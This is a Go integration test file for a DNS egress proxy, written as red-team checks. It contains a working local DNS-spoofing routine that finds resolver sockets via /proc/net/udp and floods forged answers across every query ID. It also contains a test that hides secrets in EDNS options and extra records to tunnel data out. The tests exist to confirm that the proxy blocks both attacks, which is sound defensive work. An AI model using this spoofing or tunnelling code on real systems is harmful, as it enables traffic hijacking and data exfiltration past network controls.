//go:build linux

package integration

import (
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/internal/dnstest"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// Red team of what the DNS proxy sends to its resolvers
// (redteam_dns_test.go says how the attacks are made).

// ---------------------------------------------------------------------------
// D6. What the proxy sends upstream. A query for a listed name may carry
// more than its question: EDNS options (any code, up to the message size),
// records in the answer, authority and additional sections, the letters'
// case. A proxy that forwards the client's message as it is carries all of
// that to the resolvers (and a resolver may pass the options and the case
// on to the name's servers): a tunnel with no name in it.
func TestRedteamDNSForwardsOnlyTheQuestion(t *testing.T) {
	w := newWorld(t)
	w.must(w.ns.AddAddrs(netip.MustParseAddr("198.51.100.54")))
	got := make(chan *dns.Msg, 16)
	up, err := dnstest.ListenIn(w.ns.Do, "198.51.100.54:53")
	w.must(err)
	t.Cleanup(up.Close)
	up.Set("*.api.example.test", dnstest.Record{A: addrs("192.0.2.10"), TTL: 60})
	// A wildcard: egressd does not resolve it itself, so what the upstream
	// gets for it is what the proxy forwarded.
	up.SetInspect(func(q *dns.Msg) {
		if len(q.Question) == 1 && strings.HasSuffix(strings.ToLower(q.Question[0].Name), ".api.example.test.") {
			got <- q.Copy()
		}
	})
	w.write("egressd.yaml", `resolvers: ["198.51.100.54:53"]
min_ttl: 1s
linger: 2s
dns_proxy_port: 153
`)
	w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - \"*.api.example.test:443\"\n", uidA))
	w.start()
	// Each transport asks a name of its own: the second asking of one name
	// is answered from the proxy's answer cache, not asked upstream.
	for network, asked := range map[string]string{"udp": "wWw.aPi.ExAmPlE.tEsT.", "tcp": "mAiL.aPi.ExAmPlE.tEsT."} {
		secret := fmt.Sprintf("exfil-%s-%d", network, time.Now().UnixNano())
		q := question(asked, dns.TypeA)
		q.SetEdns0(1232, false)
		opt := q.IsEdns0()
		opt.Option = append(opt.Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(secret)},
			&dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 1, SourceNetmask: 32, Address: net.IPv4(203, 0, 113, 77)})
		txt := func(s string) dns.RR {
			return &dns.TXT{Hdr: dns.RR_Header{Name: "x.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{s}}
		}
		q.Answer = []dns.RR{txt(secret + "-an")}
		q.Ns = []dns.RR{txt(secret + "-ns")}
		q.Extra = append(q.Extra, txt(secret+"-ar"))
		m, _, err := w.exchangeAs(uidA, network, 0, "192.0.2.53:53", q)
		if err != nil || m.Rcode != dns.RcodeSuccess {
			t.Fatalf("%s: the listed name with extras: %s", network, rcodeOf(m, err))
		}
		if m.Question[0].Name != q.Question[0].Name {
			t.Errorf("%s: the answer's question %q, want the client's %q", network, m.Question[0].Name, q.Question[0].Name)
		}
		var fq *dns.Msg
		select {
		case fq = <-got:
		case <-time.After(2 * time.Second):
			t.Fatalf("%s: the upstream saw no query", network)
		}
		t.Logf("%s: the upstream received:\n%s", network, fq)
		if s := fq.String(); strings.Contains(s, secret) || strings.Contains(s, "203.0.113.77") {
			t.Errorf("%s: the client's extra data reached the upstream", network)
		}
		if len(fq.Answer)+len(fq.Ns) != 0 || len(fq.Extra) > 1 {
			t.Errorf("%s: the upstream got %d answer, %d authority, %d additional records, want the question (and one OPT) alone", network, len(fq.Answer), len(fq.Ns), len(fq.Extra))
		}
		if fq.Question[0].Name != strings.ToLower(asked) {
			t.Errorf("%s: the upstream got the client's letter case %q: bits of the client's choosing", network, fq.Question[0].Name)
		}
	}
}

func init() { childModes["dns-spoof"] = childDNSSpoof }

// procAddr is an address of /proc/net/udp or udp6 ("0100007F:0035"): each
// 32-bit word in host (little-endian) order.
func procAddr(s string) (netip.AddrPort, bool) {
	h, p, ok := strings.Cut(s, ":")
	if !ok || (len(h) != 8 && len(h) != 32) {
		return netip.AddrPort{}, false
	}
	var b []byte
	for i := 0; i < len(h); i += 8 {
		var w uint32
		fmt.Sscanf(h[i:i+8], "%X", &w) //nolint:errcheck
		b = append(b, byte(w), byte(w>>8), byte(w>>16), byte(w>>24))
	}
	var port uint16
	fmt.Sscanf(p, "%X", &port) //nolint:errcheck
	a, _ := netip.AddrFromSlice(b)
	return netip.AddrPortFrom(a.Unmap(), port), true
}

// childDNSSpoof: for ATTACK_SECONDS, reads /proc/net/udp and udp6 (every
// user may) for the sockets connected to the resolver addr, and to each
// sends a forged answer under every query ID — from addr itself, bound
// with IP_FREEBIND (port 53: only where ip_unprivileged_port_start allows
// it, or with CAP_NET_BIND_SERVICE) — for ATTACK_NAME, A ATTACK_ADDR.
func childDNSSpoof(addr string) int {
	up := netip.MustParseAddrPort(addr)
	secs, _ := time.ParseDuration(os.Getenv("ATTACK_SECONDS"))
	res := map[string]any{}
	fam, lvl, opt := unix.AF_INET, unix.IPPROTO_IP, unix.IP_FREEBIND
	if up.Addr().Is6() {
		fam, lvl, opt = unix.AF_INET6, unix.IPPROTO_IPV6, unix.IPV6_FREEBIND
	}
	fd, err := unix.Socket(fam, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		res["socket"] = errName(err)
		report(res)
		return otherError
	}
	defer unix.Close(fd)
	unix.SetsockoptInt(fd, lvl, opt, 1) //nolint:errcheck
	if err := unix.Bind(fd, sockaddr(up)); err != nil {
		res["bind"] = errName(err)
		report(res)
		return otherError
	}
	res["bind"] = "ok"
	r := new(dns.Msg)
	r.SetQuestion(os.Getenv("ATTACK_NAME"), dns.TypeA)
	r.Response, r.RecursionAvailable = true, true
	r.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: os.Getenv("ATTACK_NAME"), Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300},
		A: net.ParseIP(os.Getenv("ATTACK_ADDR"))}}
	pkt, _ := r.Pack()
	sent, ports := 0, map[netip.AddrPort]bool{}
	for end := time.Now().Add(secs); time.Now().Before(end); {
		for _, file := range []string{"/proc/net/udp", "/proc/net/udp6"} {
			b, _ := os.ReadFile(file)
			for _, l := range strings.Split(string(b), "\n")[1:] {
				f := strings.Fields(l)
				if len(f) < 3 {
					continue
				}
				local, ok1 := procAddr(f[1])
				remote, ok2 := procAddr(f[2])
				if !ok1 || !ok2 || remote != up {
					continue
				}
				ports[local] = true
				for id := 0; id < 65536; id++ {
					pkt[0], pkt[1] = byte(id>>8), byte(id)
					if err := unix.Sendto(fd, pkt, 0, sockaddr(local)); err == nil {
						sent++
					} else {
						res["error"] = errName(err)
						break
					}
				}
			}
		}
		time.Sleep(time.Millisecond)
	}
	res["sent"], res["sockets"] = sent, len(ports)
	report(res)
	return 0
}

// ---------------------------------------------------------------------------
// D11. Forged answers from the host itself. egressd's upstream sockets
// (the proxy's, reused for up to 64 queries, and its own resolver's) are
// listed, with the resolver they are connected to, in /proc/net/udp, which
// every user reads. A local process that may bind port 53 (a service with
// CAP_NET_BIND_SERVICE, or any user where ip_unprivileged_port_start is
// lowered, as in many containers) binds the resolver's address with
// IP_FREEBIND and sends each such socket an answer under every query ID —
// 65,536 datagrams, local, in a fraction of the resolver's round trip. No
// protected user can send from a foreign address (the restricted chain),
// but this one is not protected: its forged answer for an allowlisted name
// puts an address of its choosing in a protected user's kernel set, which
// the protected service (the accomplice) then reaches. IPv4 refuses to
// route a FREEBIND source that is not local (ENETUNREACH); IPv6 did not.
// The input chain drops a DNS answer that arrives over loopback from an
// address that is not local.
func TestRedteamDNSLocalForgedAnswers(t *testing.T) {
	for _, c := range []struct{ family, resolver, peer string }{
		{"IPv4", "203.0.113.53:53", "203.0.113.53"},
		{"IPv6", "[2001:db8:53::1]:53", "2001:db8:53::1"},
	} {
		t.Run(c.family, func(t *testing.T) {
			w := newWorld(t)
			w.must(w.ns.Sysctl("net/ipv4/ip_unprivileged_port_start", "0"))
			p := w.addPeer(c.peer)
			up, err := dnstest.ListenIn(p.Do, c.resolver)
			w.must(err)
			t.Cleanup(up.Close)
			up.Set("api.example.test", dnstest.Record{A: addrs("192.0.2.10"), TTL: 1, Delay: 300 * time.Millisecond})
			w.write("egressd.yaml", fmt.Sprintf("resolvers: [%q]\nmin_ttl: 1s\nlinger: 2s\ndns_proxy_port: 153\n", c.resolver))
			w.write("allow.d/billing.yaml", fmt.Sprintf("user: %d\ndns: proxy\nallow:\n  - api.example.test:443\n", uidA))
			w.start()
			w.expect(uidA, "tcp", "198.51.100.20:443", okRefused)
			sp := w.startChild(uidNone, "dns-spoof", c.resolver, "ATTACK_SECONDS=6s", "ATTACK_NAME=api.example.test.", "ATTACK_ADDR=198.51.100.20")
			forged := 0
			for end := time.Now().Add(5 * time.Second); time.Now().Before(end); {
				m, _, err := w.exchangeAs(uidA, "udp", 0, "192.0.2.53:53", question("api.example.test.", dns.TypeA))
				if a, ok := firstAddr(m); err == nil && ok && a == netip.MustParseAddr("198.51.100.20") {
					forged++
				}
			}
			res := sp.next(t, 10*time.Second)
			sp.wait(t)
			connected := w.connect(uidA, "tcp", "198.51.100.20:443") == okConnected
			t.Logf("spoofer: bind %v, %v datagrams to %v socket(s) (last error %v); billing got the forged address %d times; connects to it: %v",
				res["bind"], res["sent"], res["sockets"], res["error"], forged, connected)
			if forged > 0 || connected {
				t.Errorf("a local user's forged answers put 198.51.100.20 in billing's kernel set (answers %d, connect %v)", forged, connected)
			}
		})
	}
}
